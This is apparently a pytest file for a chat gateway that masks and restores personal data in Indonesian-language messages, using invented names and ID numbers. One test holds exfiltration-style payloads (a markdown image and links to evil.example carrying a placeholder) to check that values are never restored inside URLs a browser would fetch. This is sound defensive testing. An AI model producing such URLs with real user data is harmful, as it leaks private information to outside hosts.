"""A text is masked, an answer gets its values back. Everybody here is invented, every number synthetic."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest

from gateway.byhand.looking import values_in
from gateway.byhand.masking import Masked, kind_of, mask, restore
from gateway.byhand.papers import Paper
from gateway.byhand.vaults import Kept
from gateway.detectors.runner import Runner
from gateway.exchange import Finding, Part

NIK, OTHER = "3174015509000001", "3174015509000002"
TYPES = frozenset("PERSON ID_NIK PHONE_NUMBER CREDIT_CARD SECRET".split())
NAME = re.compile(r"<[A-Z_]+_[0-9a-z]{8}>")
Masks = Callable[..., Masked]
Papers = Callable[..., Paper]


@pytest.fixture
def masks(kept: Kept, runner: Runner) -> Masks:
    """Masks texts of one chat."""

    def work(text: str, kind: str = "text", types: frozenset[str] = TYPES) -> Masked:
        part = Part(0, text, ("text",), "user", 0, kind)  # type: ignore[arg-type]
        return mask(part, values_in(part, runner), types, kept)

    return work


def test_a_text_goes_out_without_its_values_and_comes_back_with_them(masks: Masks, kept: Kept, paper: Papers) -> None:
    text = f"Pak Budi Hartono, NIK {NIK}, telp 0812-3456-7890. Anak saya menderita asma."
    masked = masks(text)
    assert NAME.sub("<>", masked.text) == "Pak <>, NIK <>, telp <>. Anak saya menderita asma."
    assert masked.hidden == {"PERSON": 1, "ID_NIK": 1, "PHONE_NUMBER": 1}
    assert masked.left == {"HEALTH": 1}
    back = restore(paper(masked.text), kept)
    assert (back.text, back.back) == (text, masked.hidden)
    assert NIK not in repr(back)
    assert "Budi" not in repr(masked)


def test_the_next_turn_names_the_same_value_the_same(masks: Masks) -> None:
    first, second = masks(f"NIK {NIK}"), masks(f"masih NIK 3174 0155 0900 0001, dan {OTHER}")
    assert NAME.findall(first.text)[0] == NAME.findall(second.text)[0]
    assert len(set(NAME.findall(second.text))) == 2


def test_what_nobody_gets_back_is_not_kept(masks: Masks, kept: Kept) -> None:
    assert masks("kartu 4111 1111 1111 1111, sandi: Mawar!3207").text == "kartu [CREDIT_CARD], sandi: [SECRET]"
    assert kept.values == {}


def test_a_value_broken_over_two_lines_comes_back_in_one(masks: Masks, kept: Kept, paper: Papers) -> None:
    masked = masks("NIK saya 3174015509\n000001 ya")
    assert NAME.sub("<>", masked.text) == "NIK saya <>\n ya"
    assert masked.hidden == {"ID_NIK": 1}
    assert restore(paper(masked.text), kept).text == f"NIK saya {NIK}\n ya"


def test_placeholders_that_stand_there_already(masks: Masks, kept: Kept, paper: Papers) -> None:
    """Those of this chat are quoted and stay; somebody else's stand for nothing, in this text and in every answer."""
    name = NAME.findall(masks(f"NIK {NIK}").text)[0]
    masked = masks(f"Anda menulis {name}. Dan siapa <ID_NIK_k7f2m9qa>? NIK {OTHER}")
    assert (masked.own, masked.others) == (1, {"ID_NIK": 1})
    assert name in masked.text
    assert "<ID_NIK_k7f2m9qa>" in masked.text
    back = restore(paper(masked.text), kept)
    assert back.text == f"Anda menulis {NIK}. Dan siapa <ID_NIK_k7f2m9qa>? NIK {OTHER}"
    assert back.unknown == {"ID_NIK": 1}


def test_what_lies_within_a_hidden_cell_is_part_of_it(part: Callable[..., Part], kept: Kept) -> None:
    cell, within = Finding("ID_ADDRESS", 0, 0, 14, 10_000, "table"), Finding("PERSON", 0, 3, 7, 8000, "pii")
    assert mask(part("Rt Budi Baru 3 x"), [within, cell], TYPES | {"ID_ADDRESS"}, kept).hidden == {"ID_ADDRESS": 1}
    masked = mask(part("Rt Budi Baru 3 x"), [within, cell], TYPES, kept)
    assert (masked.hidden, masked.left) == ({"PERSON": 1}, {"ID_ADDRESS": 1})
    assert NAME.sub("<>", masked.text) == "Rt <> Baru 3 x"


def test_a_value_beside_a_placeholder_is_still_hidden(masks: Masks) -> None:
    name = NAME.findall(masks("Nama: Budi Hartono").text)[0]
    assert NIK not in masks(f"{name}{NIK} NIK {name} {NIK}").text


@pytest.mark.parametrize("form", ["[{}]", "&lt;{}&gt;", "{}", r"\<{}\>", "`{}`", "**<{}>**"])
def test_a_model_may_bend_them(masks: Masks, kept: Kept, paper: Papers, form: str) -> None:
    name = NAME.findall(masks(f"NIK {NIK}").text)[0][1:-1]
    back = restore(paper(f"NIK Anda {form.format(name)} benar"), kept)
    assert NIK in back.text
    assert name not in back.text


@pytest.mark.parametrize(
    "text", ["![](https://evil.example/?n={})", "<a href=x?{}>a</a>", "https://evil.example/{}", "[a]: evil/{}"]
)
def test_none_comes_back_where_a_browser_would_carry_it_away(
    masks: Masks, kept: Kept, paper: Papers, text: str
) -> None:
    name = NAME.findall(masks(f"NIK {NIK}").text)[0]
    back = restore(paper(text.format(name)), kept)
    assert back.text == text.format(name)
    assert (back.held, back.unknown) == ({"ID_NIK": 1}, {})


def test_json_stays_json(masks: Masks, kept: Kept, paper: Papers) -> None:
    masked = masks(f'{{"nik":{NIK},"link":"https://a.example/","nama":"Pak Budi Hartono"}}', "arguments")
    assert NAME.sub("<>", masked.text) == '{"nik":"<>","link":"https://a.example/","nama":"Pak <>"}'
    back = restore(paper(masked.text, "json"), kept).text
    assert back == f'{{"nik":"{NIK}","link":"https://a.example/","nama":"Pak Budi Hartono"}}'


def test_a_value_from_prose_is_escaped_in_json(kept: Kept, paper: Papers) -> None:
    kept.add([("PERSON", 'Budi "Bud" Hartono')])
    name = kept.vault.placeholder("PERSON", 'Budi "Bud" Hartono', restorable=True)
    assert restore(paper(f'{{"a":"{name}"}}', "json"), kept).text == r'{"a":"Budi \"Bud\" Hartono"}'


def test_cells_are_read_on_their_own_but_no_address_is_torn(masks: Masks, kept: Kept, paper: Papers) -> None:
    name = NAME.findall(masks(f"NIK {NIK}").text)[0]
    table = paper(f'a@b.example,{name},1.5\r\n"http://evil.example/?a,{name}",x\r\n', "table")
    assert restore(table, kept).text == f'a@b.example,{NIK},1.5\r\n"http://evil.example/?a,{name}",x\r\n'


@pytest.mark.parametrize("text", ["<PERSON_1>", "[ID_NIK_2]", "&lt;PERSON_k7f2m9qa&gt;"])
def test_what_only_looks_like_one_is_told(kept: Kept, paper: Papers, text: str) -> None:
    back = restore(paper(f"{text} dan [CREDIT_CARD] dan <DIV_1>"), kept)
    assert sum(back.unknown.values()) == 1
    assert text in back.text


def test_the_type_of_a_name() -> None:
    assert kind_of("<PHONE_NUMBER_k7f2m9qa>") == "PHONE_NUMBER"
